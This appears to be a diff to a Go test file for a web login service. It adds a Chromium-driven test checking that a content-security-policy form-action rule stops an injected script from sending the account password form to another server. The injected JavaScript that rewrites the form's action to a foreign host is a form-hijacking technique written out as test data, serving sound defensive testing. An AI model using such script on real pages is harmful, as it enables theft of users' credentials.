@@ -10,11 +10,13 @@ import (
 	"slices"
 	"strings"
 	"sync"
+	"sync/atomic"
 	"testing"
 	"time"
 
 	"github.com/chromedp/cdproto/emulation"
 	"github.com/chromedp/cdproto/network"
+	"github.com/chromedp/cdproto/runtime"
 	"github.com/chromedp/chromedp"
 	"github.com/chromedp/chromedp/kb"
 
@@ -147,6 +149,40 @@ func TestChromium(t *testing.T) {
 				t.Errorf("scope is %q, want %q", tokens.Scope, tt.scope)
 			}
 		})
+	}
+}
+
+// A form that somebody smuggled into a page goes to no other site. Pages that lead to a client cannot have the rule,
+// because Chrome applies it to the redirect after their form; TestChromium shows that they get there.
+func TestSmuggledForm(t *testing.T) {
+	s := servertest.Start(t)
+	ada := s.User("ada@example.com")
+	var arrived atomic.Bool
+	elsewhere := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { arrived.Store(true) }))
+	t.Cleanup(elsewhere.Close)
+	ctx := chromium(t)
+	if _, err := chromedp.Call(ctx, emulation.SetScriptExecutionDisabled,
+		emulation.SetScriptExecutionDisabledParams{Value: false}); err != nil {
+		t.Fatal(err)
+	}
+	err := chromedp.Do(ctx,
+		chromedp.Navigate(s.URL+"/login?return=/account/security"),
+		chromedp.WaitVisible(chromedp.CSS(`input[name="password"]`)),
+		chromedp.KeyEvent(ada.Email), press(kb.Tab, 1), chromedp.KeyEvent(ada.Password), press(kb.Enter, 1),
+		chromedp.WaitVisible(chromedp.CSS(`form[action="/account/security/password"]`)))
+	if err != nil {
+		t.Fatal(err)
+	}
+	yes := true
+	got, err := chromedp.Call(ctx, runtime.Evaluate, runtime.EvaluateParams{
+		Expression: `new Promise(done => {
+			document.addEventListener("securitypolicyviolation", e => done(e.effectiveDirective));
+			const form = document.querySelector('form[action="/account/security/password"]');
+			form.action = "` + elsewhere.URL + `";
+			form.submit();
+		})`, AwaitPromise: &yes, ReturnByValue: &yes})
+	if err != nil || got.ExceptionDetails != nil || string(got.Result.Value) != `"form-action"` || arrived.Load() {
+		t.Errorf("the form was sent: %t: %v %+v", arrived.Load(), err, got)
 	}
 }
 
